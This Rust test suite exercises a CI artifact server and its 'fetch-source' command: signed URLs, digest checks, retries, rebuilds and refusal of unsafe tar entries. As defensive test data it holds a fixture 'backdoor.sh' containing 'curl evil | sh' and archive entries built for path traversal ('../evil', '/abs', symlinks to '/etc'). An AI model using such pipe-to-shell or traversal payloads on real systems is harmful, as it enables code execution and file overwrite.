//! Behaviour tests of the artifact module: the real server on 127.0.0.1 and the real `cdkube fetch-source`
//! binary, as a builder Pod's init container runs it — success, tampering, signatures, unsafe archives,
//! rebuilds, retries, a git export end to end, and the signing key Secret.
mod support;

use std::collections::BTreeMap;
use std::future::Future;
use std::io::{Read, Write};
use std::net::TcpListener as StdListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use cdkube::artifact::{ArtifactServer, Rebuild, Signer, Store, artifact_path, serve};
use futures::future::BoxFuture;
use sha2::{Digest, Sha256};
use tar::EntryType;

const COMMIT: &str = "5f0c6e3c1d2b4a5f6e7d8c9b0a1f2e3d4c5b6a79";
/// Deadline of any one command or request in these tests.
const DEADLINE: Duration = Duration::from_secs(60);

// ---- archives ----------------------------------------------------------------------------------------

/// One archive entry: name, type, link target, content, mode.
type Entry = (String, EntryType, Option<String>, Vec<u8>, u32);

/// A tar.gz being built entry by entry, names written raw so that unsafe ones can be made too.
#[derive(Default)]
struct Tarball {
    entries: Vec<Entry>,
}

impl Tarball {
    fn file(mut self, name: &str, content: &str, mode: u32) -> Self {
        let data = content.as_bytes().to_vec();
        self.entries.push((name.into(), EntryType::Regular, None, data, mode));
        self
    }

    fn dir(mut self, name: &str) -> Self {
        self.entries
            .push((name.into(), EntryType::Directory, None, vec![], 0o755));
        self
    }

    fn symlink(mut self, name: &str, target: &str) -> Self {
        let link = Some(target.to_owned());
        self.entries
            .push((name.into(), EntryType::Symlink, link, vec![], 0o777));
        self
    }

    fn special(mut self, name: &str, kind: EntryType, link: Option<&str>) -> Self {
        self.entries
            .push((name.into(), kind, link.map(str::to_owned), vec![], 0o644));
        self
    }

    fn gzip(&self) -> Vec<u8> {
        let mut builder = tar::Builder::new(Vec::new());
        for (name, kind, link, data, mode) in &self.entries {
            let mut header = tar::Header::new_gnu();
            // Raw: Header::set_path would refuse `..` and absolute paths, which is what is tested here.
            header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
            header.set_entry_type(*kind);
            header.set_size(data.len() as u64);
            header.set_mode(*mode);
            header.set_mtime(1_700_000_000);
            if let Some(link) = link {
                header.set_link_name_literal(link).unwrap();
            }
            header.set_cksum();
            builder.append(&header, data.as_slice()).unwrap();
        }
        let tar = builder.into_inner().unwrap();
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(&tar).unwrap();
        gz.finish().unwrap()
    }
}

fn digest_of(bytes: &[u8]) -> String {
    format!("sha256:{}", hex::encode(Sha256::digest(bytes)))
}

fn sample() -> Tarball {
    Tarball::default()
        .dir("src/")
        .file("README.md", "hello\n", 0o644)
        .file("src/build.sh", "#!/bin/sh\necho built\n", 0o755)
        .symlink("docs", "README.md")
        .symlink("src/readme", "../README.md")
}

// ---- the server --------------------------------------------------------------------------------------

/// A Rebuild hook that inserts prepared bytes (or fails), counting its calls.
#[derive(Default)]
struct TestRebuild {
    store: std::sync::OnceLock<Store>,
    bytes: std::sync::Mutex<Option<Vec<u8>>>,
    answer: std::sync::Mutex<Option<Result<String, String>>>,
    calls: AtomicUsize,
}

impl Rebuild for TestRebuild {
    fn rebuild(&self, _ns: String, _pipeline: String, _commit: String) -> BoxFuture<'static, Result<String, String>> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        let store = self.store.get().cloned();
        let bytes = self.bytes.lock().unwrap().clone();
        let answer = self.answer.lock().unwrap().clone();
        Box::pin(async move {
            // Long enough for concurrent requests to pile up behind this rebuild.
            tokio::time::sleep(Duration::from_millis(300)).await;
            if let (Some(store), Some(bytes)) = (store, bytes) {
                let temp = store.temp_path();
                std::fs::write(&temp, &bytes).map_err(|e| e.to_string())?;
                store.insert(&temp, &digest_of(&bytes)).map_err(|e| e.to_string())?;
                return Ok(digest_of(&bytes));
            }
            answer.unwrap_or_else(|| Err("nothing to rebuild from".into()))
        })
    }
}

/// A running artifact server in a temporary store, stopped when dropped.
struct Server {
    base: String,
    store: Store,
    signer: Signer,
    rebuild: Arc<TestRebuild>,
    dir: tempfile::TempDir,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    task: Option<tokio::task::JoinHandle<std::io::Result<()>>>,
}

impl Server {
    async fn start() -> Server {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::open(&dir.path().join("store")).unwrap();
        let signer = Signer::generate();
        let rebuild = Arc::new(TestRebuild::default());
        rebuild.store.set(store.clone()).unwrap();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let server = ArtifactServer::new(store.clone(), signer.clone(), rebuild.clone());
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let task = tokio::spawn(serve(listener, server, async move {
            let _ = stopped.await;
        }));
        Server {
            base,
            store,
            signer,
            rebuild,
            dir,
            stop: Some(stop),
            task: Some(task),
        }
    }

    /// Store `bytes` as an artifact; its digest.
    fn insert(&self, bytes: &[u8]) -> String {
        let temp = self.store.temp_path();
        std::fs::write(&temp, bytes).unwrap();
        let digest = digest_of(bytes);
        self.store.insert(&temp, &digest).unwrap();
        digest
    }

    fn path(&self, digest: &str) -> String {
        artifact_path("team-a", "shop", COMMIT, digest)
    }

    fn url(&self, digest: &str) -> String {
        self.signer
            .signed_url(&self.base, &self.path(digest), Duration::from_secs(300))
    }

    /// A fresh, not yet existing destination directory two levels below the test's directory.
    fn dest(&self, name: &str) -> PathBuf {
        self.dir.path().join("pods").join(name).join("workspace")
    }

    async fn stop(mut self) -> std::io::Result<()> {
        let _ = self.stop.take().unwrap().send(());
        let task = self.task.take().unwrap();
        tokio::time::timeout(DEADLINE, task)
            .await
            .expect("graceful stop in time")
            .unwrap()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(task) = &self.task {
            task.abort();
        }
    }
}

// ---- the command -------------------------------------------------------------------------------------

/// Run `cdkube fetch-source` with `args`, under the test deadline.
async fn fetch_source(url: &str, digest: &str, dest: &Path, extra: &[&str]) -> Output {
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_cdkube"));
    command
        .arg("fetch-source")
        .args(["--url", url, "--digest", digest, "--dest"])
        .arg(dest)
        .args(extra)
        .env_remove("CDKUBE_ARTIFACT_URL")
        .kill_on_drop(true);
    tokio::time::timeout(DEADLINE, command.output())
        .await
        .expect("cdkube fetch-source finished in time")
        .expect("run cdkube")
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Assert that `output` failed with one stderr line containing `needle`, and never showed a signature.
fn assert_failed(output: &Output, needle: &str) {
    let err = stderr(output);
    assert!(!output.status.success(), "expected a failure, got success: {err}");
    assert_eq!(output.status.code(), Some(1), "{err}");
    assert!(err.contains(needle), "expected {needle:?} in: {err}");
    assert!(err.starts_with("cdkube fetch-source: "), "{err}");
    assert!(!err.contains("signature="), "the signature leaked: {err}");
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
}

/// Nothing at `dest`, or an empty directory.
fn assert_nothing_extracted(dest: &Path) {
    if dest.exists() {
        let left: Vec<_> = std::fs::read_dir(dest)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert!(left.is_empty(), "{} holds {left:?}", dest.display());
    }
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

async fn get(url: &str) -> (u16, String) {
    let response = tokio::time::timeout(DEADLINE, reqwest::Client::new().get(url).send())
        .await
        .expect("answer in time")
        .expect("request");
    let status = response.status().as_u16();
    (status, response.text().await.unwrap_or_default())
}

/// `url` with its last character (a signature hex digit) changed.
fn flip_last(url: &str) -> String {
    let mut out = url.to_owned();
    let last = out.pop().unwrap();
    out.push(if last == '0' { '1' } else { '0' });
    out
}

fn unix_now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs()
}

// ---- tests -------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn fetch_source_downloads_verifies_and_extracts() {
    let server = Server::start().await;
    let bytes = sample().gzip();
    let digest = server.insert(&bytes);
    let dest = server.dest("ok");
    let output = fetch_source(&server.url(&digest), &digest, &dest, &[]).await;
    assert!(output.status.success(), "{}", stderr(&output));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(
        stdout.trim_end(),
        format!(
            "fetched {digest} ({} bytes, 2 files) into {}",
            bytes.len(),
            dest.display()
        )
    );
    assert_eq!(std::fs::read_to_string(dest.join("README.md")).unwrap(), "hello\n");
    assert_eq!(std::fs::read_to_string(dest.join("src/readme")).unwrap(), "hello\n");
    assert_eq!(std::fs::read_link(dest.join("docs")).unwrap(), Path::new("README.md"));
    assert_eq!(mode(&dest.join("src/build.sh")), 0o755);
    assert_eq!(mode(&dest.join("README.md")), 0o644);
    let names: Vec<_> = std::fs::read_dir(&dest)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names.len(), 3, "no temporary files are left: {names:?}");
    // An idle connection does not hold up a graceful stop.
    let _idle = tokio::net::TcpStream::connect(server.base.trim_start_matches("http://"))
        .await
        .unwrap();
    server.stop().await.expect("graceful shutdown");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tampered_artifact_is_refused_and_nothing_is_extracted() {
    let server = Server::start().await;
    let digest = server.insert(&sample().gzip());
    let stored = server.store.path(&digest).unwrap();
    let mut other = sample().file("backdoor.sh", "curl evil | sh\n", 0o755).gzip();
    other.truncate(std::fs::metadata(&stored).unwrap().len() as usize);
    std::fs::write(&stored, &other).unwrap();
    let dest = server.dest("tampered");
    let output = fetch_source(&server.url(&digest), &digest, &dest, &[]).await;
    assert_failed(&output, &format!("digest mismatch: expected {digest}, got sha256:"));
    assert_nothing_extracted(&dest);
}

#[tokio::test(flavor = "multi_thread")]
async fn unsigned_wrong_and_expired_urls_are_forbidden() {
    let server = Server::start().await;
    let digest = server.insert(&sample().gzip());
    let path = server.path(&digest);
    let good = server.url(&digest);
    let past = unix_now() - 10;
    let cases = [
        ("unsigned", format!("{}{path}", server.base), "not signed"),
        ("wrong", flip_last(&good), "invalid signature"),
        (
            "other key",
            Signer::generate().signed_url(&server.base, &path, Duration::from_secs(60)),
            "invalid signature",
        ),
        (
            "expired",
            format!(
                "{}{path}?expires={past}&signature={}",
                server.base,
                server.signer.sign(&path, past)
            ),
            "expired",
        ),
    ];
    for (case, url, why) in cases {
        let (status, body) = get(&url).await;
        assert_eq!(status, 403, "{case}: {body}");
        assert!(body.contains(why), "{case}: {body}");
        let dest = server.dest(case);
        let output = fetch_source(&url, &digest, &dest, &[]).await;
        assert_failed(&output, "answered 403");
        assert!(stderr(&output).contains(why), "{case}: {}", stderr(&output));
        assert_nothing_extracted(&dest);
    }
    let (status, _) = get(&format!("{}/artifacts/team-a/shop/{COMMIT}/nothex.tar.gz", server.base)).await;
    assert_eq!(status, 404);
    let (status, _) = get(&format!("{}/elsewhere", server.base)).await;
    assert_eq!(status, 404);
    let response = reqwest::Client::new().get(&good).send().await.unwrap();
    assert_eq!(response.status().as_u16(), 200);
    let headers = response.headers();
    assert_eq!(headers[reqwest::header::CONTENT_TYPE], "application/gzip");
    let length: u64 = headers[reqwest::header::CONTENT_LENGTH]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(
        length,
        std::fs::metadata(server.store.path(&digest).unwrap()).unwrap().len()
    );
    assert_eq!(digest_of(&response.bytes().await.unwrap()), digest);
}

#[tokio::test(flavor = "multi_thread")]
async fn unsafe_archives_are_refused_and_nothing_is_written() {
    let server = Server::start().await;
    let cases = [
        (
            "parent",
            Tarball::default()
                .file("ok.txt", "ok", 0o644)
                .file("../evil", "x", 0o644),
            "'..'",
        ),
        ("absolute", Tarball::default().file("/abs", "x", 0o644), "absolute"),
        (
            "escaping symlink",
            Tarball::default()
                .symlink("link", "../../outside")
                .file("link/file", "x", 0o644),
            "leaves the destination",
        ),
        (
            "absolute symlink",
            Tarball::default().symlink("etc", "/etc"),
            "is absolute",
        ),
        (
            "through a symlink",
            Tarball::default()
                .dir("sub/")
                .symlink("inner", "sub")
                .file("inner/file", "x", 0o644),
            "through the symlink",
        ),
        (
            "hard link",
            Tarball::default()
                .file("a", "x", 0o644)
                .special("b", EntryType::Link, Some("a")),
            "hard links",
        ),
        (
            "fifo",
            Tarball::default().special("pipe", EntryType::Fifo, None),
            "fifo",
        ),
        (
            "device",
            Tarball::default().special("dev", EntryType::Char, None),
            "device",
        ),
    ];
    for (case, tarball, why) in cases {
        let digest = server.insert(&tarball.gzip());
        let dest = server.dest(case);
        let output = fetch_source(&server.url(&digest), &digest, &dest, &[]).await;
        assert_failed(&output, "refusing archive entry");
        assert!(stderr(&output).contains(why), "{case}: {}", stderr(&output));
        assert_nothing_extracted(&dest);
        let pod = dest.parent().unwrap();
        for outside in [
            pod.join("evil"),
            pod.join("outside"),
            pod.parent().unwrap().join("outside"),
        ] {
            assert!(!outside.exists(), "{case}: {} was written", outside.display());
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_missing_artifact_is_rebuilt_once_and_served() {
    let server = Server::start().await;
    let bytes = sample().gzip();
    let digest = digest_of(&bytes);
    *server.rebuild.bytes.lock().unwrap() = Some(bytes);
    assert!(!server.store.contains(&digest));
    let url = server.url(&digest);
    let (a, b) = (server.dest("first"), server.dest("second"));
    let (first, second) = tokio::join!(
        fetch_source(&url, &digest, &a, &[]),
        fetch_source(&url, &digest, &b, &[])
    );
    assert!(first.status.success(), "{}", stderr(&first));
    assert!(second.status.success(), "{}", stderr(&second));
    assert_eq!(
        server.rebuild.calls.load(Ordering::SeqCst),
        1,
        "one rebuild for both requests"
    );
    assert!(server.store.contains(&digest));
    assert_eq!(std::fs::read_to_string(b.join("README.md")).unwrap(), "hello\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn failed_or_different_rebuilds_are_explained() {
    let server = Server::start().await;
    let digest = digest_of(b"gone");
    *server.rebuild.answer.lock().unwrap() = Some(Err("the commit is no longer on the remote".into()));
    let (status, body) = get(&server.url(&digest)).await;
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("the commit is no longer on the remote"), "{body}");

    *server.rebuild.answer.lock().unwrap() = Some(Ok(digest_of(b"something else")));
    let (status, body) = get(&server.url(&digest)).await;
    assert_eq!(status, 404, "{body}");
    assert!(body.contains("no longer exists"), "{body}");
}

/// A server that answers `statuses` in turn (the last one repeated), then `body` with 200; counts requests.
fn scripted_server(statuses: Vec<u16>, body: Vec<u8>) -> (String, Arc<AtomicUsize>) {
    let listener = StdListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let count = Arc::new(AtomicUsize::new(0));
    let seen = Arc::clone(&count);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let n = seen.fetch_add(1, Ordering::SeqCst);
            let _ = stream.set_read_timeout(Some(DEADLINE));
            read_request_head(&mut stream);
            let status = statuses.get(n).copied().unwrap_or(200);
            let payload = if status == 200 {
                body.clone()
            } else {
                b"try later\n".to_vec()
            };
            let head = format!(
                "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                payload.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&payload);
        }
    });
    (base, count)
}

/// Read up to the end of the request headers, so that closing the socket does not reset the connection.
fn read_request_head(stream: &mut std::net::TcpStream) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 64 * 1024 {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => return,
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn server_errors_are_retried_and_refusals_are_not() {
    let bytes = sample().gzip();
    let digest = digest_of(&bytes);
    let dir = tempfile::tempdir().unwrap();

    let (base, count) = scripted_server(vec![503, 500], bytes.clone());
    let url = format!("{base}/artifact.tar.gz?expires=1&signature=abc");
    let output = fetch_source(&url, &digest, &dir.path().join("retried"), &[]).await;
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(count.load(Ordering::SeqCst), 3, "two failures, then success");

    let (base, count) = scripted_server(vec![404; 10], bytes);
    let url = format!("{base}/artifact.tar.gz?expires=1&signature=abc");
    let dest = dir.path().join("refused");
    let output = fetch_source(&url, &digest, &dest, &[]).await;
    assert_failed(&output, "answered 404: try later");
    assert!(
        stderr(&output).contains(&format!("{base}/artifact.tar.gz:")),
        "{}",
        stderr(&output)
    );
    assert_eq!(count.load(Ordering::SeqCst), 1, "a refusal is not retried");
    assert_nothing_extracted(&dest);
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_artifacts_and_dead_servers_fail_within_limits() {
    let server = Server::start().await;
    let bytes = sample().gzip();
    let digest = server.insert(&bytes);
    let dest = server.dest("small");
    let output = fetch_source(&server.url(&digest), &digest, &dest, &["--max-bytes", "10"]).await;
    assert_failed(&output, "larger than the limit of 10 bytes");
    assert_nothing_extracted(&dest);

    // Nothing listens there: connection refused, retried until the (short) deadline.
    let port = support::free_port();
    let url = format!("http://127.0.0.1:{port}/a.tar.gz?expires=1&signature=abc");
    let output = fetch_source(&url, &digest, &dest, &["--timeout", "2s"]).await;
    assert_failed(
        &output,
        &format!("downloading http://127.0.0.1:{port}/a.tar.gz failed after"),
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_git_export_round_trips() {
    let repos = support::Repos::new();
    let upstream = repos.create_empty("source");
    let work = upstream.work_path();
    std::fs::write(work.join("run.sh"), "#!/bin/sh\necho run\n").unwrap();
    std::fs::set_permissions(work.join("run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink("README.md", work.join("link")).unwrap();
    let sha = upstream.commit(
        &[("README.md", "# source\n"), ("src/main.rs", "fn main() {}\n")],
        "first",
    );

    let storage = tempfile::tempdir().unwrap();
    let engine = cdkube::git::Engine::new(cdkube::git::EngineOptions::new(storage.path())).unwrap();
    let spec = cdkube::git::RemoteSpec::new(
        upstream.bare_path(),
        Some("main"),
        cdkube::git::Credentials::none(),
        true,
    )
    .unwrap();
    engine.fetch(&spec).await.unwrap();
    let server = Server::start().await;
    let exported = engine.export(&spec, &sha, &server.store.temp_path()).await.unwrap();
    server.store.insert(&exported.path, &exported.digest).unwrap();

    let dest = server.dest("git");
    let url = server.signer.signed_url(
        &server.base,
        &artifact_path("team-a", "shop", &sha, &exported.digest),
        Duration::from_secs(60),
    );
    let output = fetch_source(&url, &exported.digest, &dest, &[]).await;
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(String::from_utf8_lossy(&output.stdout).contains(&format!("({} bytes, 3 files)", exported.size)));
    for file in ["README.md", "src/main.rs", "run.sh"] {
        assert_eq!(
            std::fs::read(dest.join(file)).unwrap(),
            std::fs::read(work.join(file)).unwrap(),
            "{file}"
        );
    }
    assert_eq!(mode(&dest.join("run.sh")) & 0o111, 0o111, "executable");
    assert_eq!(mode(&dest.join("README.md")) & 0o111, 0, "not executable");
    assert_eq!(std::fs::read_link(dest.join("link")).unwrap(), Path::new("README.md"));
    assert!(!dest.join(".git").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_signing_key_secret_is_created_once_and_shared() {
    let cluster = support::cluster::Cluster::start().await;
    let client = cluster.client().await;
    let load = |client: kube::Client| async move {
        cdkube::artifact::load_or_create_key_secret(client, "default", cdkube::artifact::DEFAULT_KEY_SECRET).await
    };
    let (a, b) = tokio::join!(load(client.clone()), load(client.clone()));
    let (a, b) = (a.unwrap(), b.unwrap());
    assert_eq!(a.key(), b.key(), "racing replicas end up with one key");
    let again = with_deadline(load(client.clone())).await.unwrap();
    assert_eq!(again.key(), a.key(), "the key survives a restart");

    let secrets: kube::Api<k8s_openapi::api::core::v1::Secret> = kube::Api::namespaced(client, "default");
    let secret = secrets.get(cdkube::artifact::DEFAULT_KEY_SECRET).await.unwrap();
    let labels: BTreeMap<String, String> = secret.metadata.labels.unwrap_or_default();
    assert_eq!(
        labels.get("app.kubernetes.io/managed-by").map(String::as_str),
        Some("cdkube")
    );
    assert_eq!(secret.type_.as_deref(), Some("Opaque"));
    assert_eq!(secret.data.unwrap()["signing-key"].0, a.key());
}

async fn with_deadline<T>(future: impl Future<Output = T>) -> T {
    tokio::time::timeout(DEADLINE, future).await.expect("in time")
}

#[tokio::test(flavor = "multi_thread")]
async fn extraction_never_overwrites_and_cleans_up_after_killed_attempts() {
    let server = Server::start().await;
    let digest = server.insert(&sample().gzip());
    let url = server.url(&digest);

    let dest = server.dest("occupied");
    std::fs::create_dir_all(&dest).unwrap();
    std::fs::write(dest.join("README.md"), "mine\n").unwrap();
    let output = fetch_source(&url, &digest, &dest, &[]).await;
    assert_failed(&output, "README.md already exists");
    assert_eq!(std::fs::read_to_string(dest.join("README.md")).unwrap(), "mine\n");
    let names: Vec<_> = std::fs::read_dir(&dest)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["README.md"], "nothing else was added");

    let dest = server.dest("restarted");
    std::fs::create_dir_all(dest.join(".cdkube-staging-old/src")).unwrap();
    std::fs::write(dest.join(".cdkube-download-old"), "partial").unwrap();
    std::fs::write(dest.join("notes.txt"), "kept\n").unwrap();
    let output = fetch_source(&url, &digest, &dest, &[]).await;
    assert!(output.status.success(), "{}", stderr(&output));
    let mut names: Vec<_> = std::fs::read_dir(&dest)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["README.md", "docs", "notes.txt", "src"]);
}
